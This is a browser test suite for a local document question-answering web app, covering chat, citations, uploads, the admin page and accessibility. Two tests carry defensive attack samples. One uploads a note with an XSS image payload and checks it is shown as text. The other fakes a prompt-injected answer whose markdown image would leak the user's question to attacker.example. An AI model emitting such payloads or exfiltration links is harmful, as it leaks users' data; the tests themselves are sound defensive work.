"""The web UI in a real browser: chat, sources, conversations, library, admin."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import DEMO_QUESTION, LiveApp, screenshot

pytestmark = pytest.mark.browser

Page = Any  # playwright.sync_api.Page; Any keeps mypy away from an optional dependency
BROKEN_DOCX = b"PK\x03\x04 not really a zip archive"
# Markup in a document must reach the page as text, never as HTML.
NOTE = (
    "The Kestrel badge office in Building C opens at 07:30 on weekdays.\n"
    'Badges are printed there <img src=x onerror="window.pwned=1"> while you wait.\n'
)


def expect(target: Any) -> Any:
    from playwright.sync_api import expect as playwright_expect

    return playwright_expect(target)


def ask(page: Page, question: str) -> None:
    box = page.get_by_label("Your question")
    box.fill(question)
    box.press("Enter")


def last_answer(page: Page) -> Any:
    return page.locator("article.msg-assistant").last


def test_answer_streams_then_cites_and_the_source_is_highlighted(
    page: Page, live_app: LiveApp
) -> None:
    page.goto("/")
    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
    screenshot(page, "welcome-desktop")
    live_app.model.hold(4)  # the model stops after 4 words until released
    ask(page, DEMO_QUESTION)
    answer = last_answer(page)
    # Mid-stream: raw text is there, the stop button replaces send, no citation yet.
    expect(answer.locator(".answer-text")).not_to_be_empty()
    assert live_app.model.reached_hold()
    streamed = answer.locator(".answer-text").inner_text()
    # The server holds back the last word until the next piece: it may still become a URL.
    assert len(streamed.split()) == 3, streamed
    expect(page.get_by_role("button", name="Stop generating")).to_be_visible()
    expect(answer.locator(".source-card")).to_have_count(0)
    live_app.model.release()

    cite = answer.locator(".answer-text .cite").first
    expect(cite).to_be_visible()
    expect(page.get_by_role("button", name="Send question")).to_be_visible()
    expect(answer.locator(".source-card").first).to_be_visible()
    text = answer.locator(".answer-text").inner_text()
    assert "25" in text, text
    screenshot(page, "chat-desktop")

    # Keyboard: the citation is a button; Enter opens the panel, Escape returns focus.
    cite.focus()
    page.keyboard.press("Enter")
    panel = page.locator("#source-panel")
    expect(panel).to_be_visible()
    mark = panel.locator("mark").first
    expect(mark).to_be_visible()
    assert "25" in mark.inner_text()
    expect(panel.locator("#panel-title")).to_be_focused()
    link = panel.get_by_role("link", name=re.compile("Open original"))
    href = link.get_attribute("href") or ""
    assert re.fullmatch(r"/api/v1/documents/[0-9a-f]{16}/file(#page=\d+)?", href), href
    screenshot(page, "source-desktop")
    file = page.request.get(live_app.url(href.split("#")[0]))
    assert file.status == 200 and len(file.body()) > 0
    page.keyboard.press("Escape")
    expect(panel).to_be_hidden()
    expect(cite).to_be_focused()


def test_a_pdf_source_opens_at_its_page(page: Page) -> None:
    page.goto("/")
    ask(page, "What is the minimum length for a standard user password?")
    answer = last_answer(page)
    card = answer.locator(".source-card", has_text="p.").first
    expect(card).to_be_visible()
    card.click()
    href = page.locator("#panel-open").get_attribute("href") or ""
    assert re.search(r"/file#page=\d+$", href), href
    expect(page.locator("#panel-open")).to_contain_text("at page")


def test_not_in_the_documents_looks_different(page: Page) -> None:
    page.goto("/")
    ask(page, "What is the boiling point of liquid nitrogen on Jupiter's moons?")
    answer = last_answer(page)
    expect(answer.locator(".abstain")).to_be_visible()
    expect(answer.locator(".abstain")).to_contain_text("Not in the documents")
    expect(answer.locator(".cite")).to_have_count(0)


def test_stop_keeps_what_was_written(page: Page, live_app: LiveApp) -> None:
    page.goto("/")
    live_app.model.hold(3)
    ask(page, DEMO_QUESTION)
    assert live_app.model.reached_hold()
    answer = last_answer(page)
    expect(answer.locator(".answer-text")).not_to_be_empty()
    page.get_by_role("button", name="Stop generating").click()
    expect(answer.locator(".note", has_text="Stopped")).to_be_visible()
    expect(page.get_by_role("button", name="Send question")).to_be_visible()
    live_app.model.release()
    # Stored as far as it got: the reloaded conversation shows it stopped.
    page.reload()
    expect(last_answer(page).locator(".note", has_text="Stopped")).to_be_visible()


def test_conversations_follow_ups_rename_delete_and_feedback(page: Page) -> None:
    page.goto("/")
    ask(page, DEMO_QUESTION)
    expect(last_answer(page).locator(".cite").first).to_be_visible()
    assert re.search(r"/c/[0-9a-f]{16}$", page.url), page.url
    sidebar = page.get_by_role("region", name="Conversations")
    current = sidebar.locator(".conv-item.active")
    expect(current.get_by_role("link")).to_have_attribute("title", DEMO_QUESTION)
    expect(current.get_by_role("link")).to_have_attribute("aria-current", "page")
    expect(page.locator("#chat-title")).to_have_text(DEMO_QUESTION)

    # Shift+Enter makes a new line; Enter sends.
    box = page.get_by_label("Your question")
    box.fill("And can they")
    box.press("Shift+Enter")
    box.type("carry it over?")
    assert box.input_value() == "And can they\ncarry it over?"
    box.press("Enter")
    expect(page.locator(".msg-user")).to_have_count(2)
    expect(last_answer(page).locator(".msg-actions")).to_be_visible()

    # Feedback with a comment, listed for admins.
    last_answer(page).get_by_role("button", name="Bad answer").click()
    page.get_by_label("Comment on this answer").fill("Did not say how many days carry over")
    page.get_by_role("button", name="Send feedback").click()
    expect(last_answer(page).get_by_role("button", name="Bad answer")).to_have_attribute(
        "aria-pressed", "true"
    )

    # Reloading the conversation renders the same turns.
    url = page.url
    page.goto(url)
    expect(page.locator(".msg-user")).to_have_count(2)
    expect(page.locator("article.msg-assistant .cite").first).to_be_visible()

    # Rename, then delete.
    current.get_by_role("button", name=f"Rename “{DEMO_QUESTION}”").click()
    field = page.get_by_label("Conversation name")
    field.fill("Annual leave")
    field.press("Enter")
    expect(sidebar.get_by_role("link", name="Annual leave", exact=True)).to_be_visible()
    expect(page.locator("#chat-title")).to_have_text("Annual leave")
    sidebar.get_by_role("button", name="Delete “Annual leave”").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(sidebar.get_by_role("link", name="Annual leave", exact=True)).to_have_count(0)
    expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
    assert urlsplit(page.url).path == "/"

    page.goto("/admin")
    feedback = page.locator("#feedback")
    expect(feedback).to_contain_text("Did not say how many days carry over")
    expect(feedback).to_contain_text("And can they")


def test_upload_by_drag_and_drop_becomes_indexed(page: Page, tmp_path: Path) -> None:
    page.goto("/library")
    expect(page.locator("#documents-body tr").first).to_be_visible()
    # Drag-and-drop: a DataTransfer with the file, dropped on the zone.
    page.evaluate(
        """([name, text]) => {
            const transfer = new DataTransfer();
            transfer.items.add(new File([text], name, {type: "text/plain"}));
            const zone = document.getElementById("dropzone");
            for (const type of ["dragenter", "dragover", "drop"]) {
                zone.dispatchEvent(new DragEvent(type, {dataTransfer: transfer, bubbles: true}));
            }
        }""",
        ["badge-office.txt", NOTE],
    )
    upload = page.locator(".upload", has_text="badge-office.txt")
    expect(upload).to_be_visible()
    expect(upload.locator("progress")).to_have_count(1)
    expect(upload).to_have_attribute("data-state", "indexed")
    expect(upload).to_contain_text("Indexed")
    row = page.locator("#documents-body tr", has_text="badge-office.txt")
    expect(row.locator(".badge")).to_have_text("Indexed")

    # Search by name narrows the list.
    page.get_by_label("Search documents by name").fill("badge-off")
    expect(page.locator("#documents-body tr")).to_have_count(1)
    page.get_by_label("Search documents by name").fill("")

    # The new document answers questions.
    page.goto("/")
    ask(page, "When does the Kestrel badge office in Building C open?")
    card = last_answer(page).locator(".source-card").first
    expect(card).to_have_attribute("title", re.compile("badge-office.txt"))
    card.click()
    expect(page.locator("#panel-passage")).to_contain_text('<img src=x onerror="window.pwned=1">')
    assert page.locator("#panel-passage img").count() == 0
    assert page.evaluate("() => window.pwned") is None


def test_a_failed_file_shows_its_reason_and_can_be_retried(page: Page, tmp_path: Path) -> None:
    broken = tmp_path / "broken-contract.docx"
    broken.write_bytes(BROKEN_DOCX)
    page.goto("/library")
    page.locator("#file-input").set_input_files(str(broken))
    upload = page.locator(".upload", has_text="broken-contract.docx")
    expect(upload).to_have_attribute("data-state", "failed")
    expect(upload.locator(".upload-reason")).to_contain_text("damaged")
    row = page.locator("#documents-body tr", has_text="broken-contract.docx")
    expect(row.locator(".badge")).to_have_text("Failed")
    expect(row.locator(".doc-error")).to_contain_text("not a readable Office")
    page.get_by_role("button", name="Failed").click()
    expect(page.locator("#documents-body tr")).to_have_count(1)

    page.goto("/admin")
    failed = page.locator("#failed-body tr", has_text="broken-contract.docx")
    expect(failed).to_contain_text("damaged")
    failed.get_by_role("button", name="Retry broken-contract.docx").click()
    expect(page.locator("#jobs .job").first).to_contain_text("Re-index")
    expect(page.locator("#failed-body tr", has_text="broken-contract.docx")).to_be_visible()


def test_a_scan_being_read_shows_its_pages(page: Page, live_app: LiveApp, tmp_path: Path) -> None:
    from ingest.jobs import JobLog
    from ingest.registry import Registry

    # A document in the middle of its OCR, as the parser process reports it (page 3 of 12).
    settings = live_app.settings
    target = settings.database_for(settings.registry_path)
    registry, jobs = Registry(target), JobLog(target)
    scan = tmp_path / "signed-lease-scan.pdf"
    scan.write_bytes(b"%PDF-1.4\n")
    record = registry.register(str(scan), "default", "0" * 64, 10, 0.0)
    jobs.pages(record.id, record.path, 3, 12)
    try:
        page.goto("/library")
        row = page.locator("#documents-body tr", has_text="signed-lease-scan.pdf")
        expect(row.locator(".badge")).to_have_text("Indexing · page 3 of 12")
        jobs.pages(record.id, record.path, 4, 12)
        expect(row.locator(".badge")).to_have_text("Indexing · page 4 of 12")  # polled
    finally:
        registry.mark_failed(record.id, "test document")
        registry.mark_deleted(record.id)
        jobs.forget_pages(record.id)


def test_admin_shows_health_and_ingestion(page: Page) -> None:
    page.goto("/admin")
    expect(page.locator("#stat-status")).to_contain_text("Ready")
    expect(page.locator("#stat-model")).to_have_text("fake")
    expect(page.locator("#stat-chunks")).not_to_have_text("…")
    expect(page.locator("#stat-slots")).to_have_text(re.compile(r"^\d+ / \d+$"))
    expect(page.locator("#jobs .job").first).to_be_visible()
    page.wait_for_load_state("networkidle")
    screenshot(page, "admin-desktop", full_page=True)
    page.goto("/library")
    expect(page.locator("#documents-body tr").first).to_be_visible()
    screenshot(page, "library-desktop")


def test_every_control_has_a_name_and_pages_fit_a_phone(phone: Page, live_app: LiveApp) -> None:
    for path in ("/", "/library", "/admin"):
        phone.goto(path)
        phone.wait_for_load_state("networkidle")
        unnamed = phone.evaluate(
            """() => [...document.querySelectorAll('button, a[href], input, textarea, select')]
                .filter(e => e.offsetParent !== null || e.closest('.sidebar'))
                .filter(e => !(e.getAttribute('aria-label') || e.labels?.length
                               || e.textContent.trim() || e.getAttribute('title')))
                .map(e => e.outerHTML.slice(0, 80))"""
        )
        assert unnamed == [], (path, unnamed)
        overflow = phone.evaluate("() => document.documentElement.scrollWidth")
        assert overflow <= 390, (path, overflow)

    phone.goto("/library")
    expect(phone.locator("#documents-body tr").first).to_be_visible()
    screenshot(phone, "library-phone")
    phone.goto("/admin")
    expect(phone.locator("#stat-status")).to_contain_text("Ready")
    expect(phone.locator("#jobs .job").first).to_be_visible()
    screenshot(phone, "admin-phone")

    phone.goto("/")
    ask(phone, DEMO_QUESTION)
    cite = last_answer(phone).locator(".cite").first
    expect(cite).to_be_visible()
    screenshot(phone, "chat-phone")
    cite.tap()
    panel = phone.locator("#source-panel")
    expect(panel.locator("mark").first).to_be_visible()
    screenshot(phone, "source-phone")
    phone.get_by_role("button", name="Close source").tap()
    expect(panel).to_be_hidden()

    # The sidebar opens from the menu button on a phone.
    phone.get_by_role("button", name="Open navigation").tap()
    expect(phone.get_by_role("link", name="Documents", exact=True)).to_be_visible()


def test_pages_request_nothing_from_other_hosts(page: Page, live_app: LiveApp) -> None:
    start = len(live_app.requests)
    for path in ("/", "/library", "/admin"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
    page.goto("/")
    ask(page, DEMO_QUESTION)
    expect(last_answer(page).locator(".cite").first).to_be_visible()
    made = live_app.requests[start:]
    hosts = {urlsplit(u).netloc for u in made}
    assert hosts == {urlsplit(live_app.base).netloc}, hosts
    paths = {urlsplit(u).path for u in made}
    assert {"/static/app.css", "/static/common.js", "/static/chat.js", "/api/v1/ask"} <= paths
    # The browser enforces it too: the pages carry a same-origin Content-Security-Policy.
    policy = page.request.get(live_app.url("/")).headers["content-security-policy"]
    assert "default-src 'self'" in policy and "connect-src 'self'" in policy


def test_an_injected_image_in_an_answer_is_shown_as_text(page: Page, live_app: LiveApp) -> None:
    """A model that obeys an instruction hidden in a document writes a markdown image that
    would send the question to another host: the page shows its alt text, no image, no URL,
    while streaming and in the checked answer."""
    page.goto("/")
    live_app.model.enqueue(
        "Full-time employees get ![logo](http://attacker.example/collect?q=leave) 25 days "
        "of paid annual leave [1]."
    )
    live_app.model.hold(5)  # the image and the word after it (which shows it is complete)
    ask(page, DEMO_QUESTION)
    answer = last_answer(page)
    assert live_app.model.reached_hold()
    expect(answer.locator(".answer-text")).to_contain_text("[image: logo]")
    assert "attacker" not in answer.inner_text()
    expect(answer.locator("img")).to_have_count(0)
    live_app.model.release()
    expect(answer.locator(".msg-actions")).to_be_visible()
    assert "attacker" not in answer.locator(".answer-text").inner_text()
    assert answer.locator(".answer-text img, .answer-text a").count() == 0


def test_open_access_is_announced(page: Page) -> None:
    page.goto("/library")
    expect(page.locator("#open-banner")).to_contain_text("no sign-in")


def test_deleting_a_document_says_what_becomes_of_its_file(page: Page, tmp_path: Path) -> None:
    """Issue 20, finding 2: the library says, before and after, what a delete does to the file
    (an upload is deleted; a drop-folder file goes to the trash folder)."""
    notice = tmp_path / "parking-notice.txt"
    notice.write_text("Visitor parking moves to level minus two during the works.")
    page.goto("/library")
    page.locator("#file-input").set_input_files(str(notice))
    row = page.locator("#documents-body tr", has_text="parking-notice.txt")
    expect(row.locator(".badge")).to_have_text("Indexed")
    row.get_by_role("button", name=re.compile("^Delete ")).click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("An uploaded file is deleted")
    expect(dialog).to_contain_text("moved to the server's trash folder")
    dialog.get_by_role("button", name="Delete").click()
    expect(page.locator("#toast")).to_have_text("Document deleted, with its uploaded file")
    expect(row).to_have_count(0)
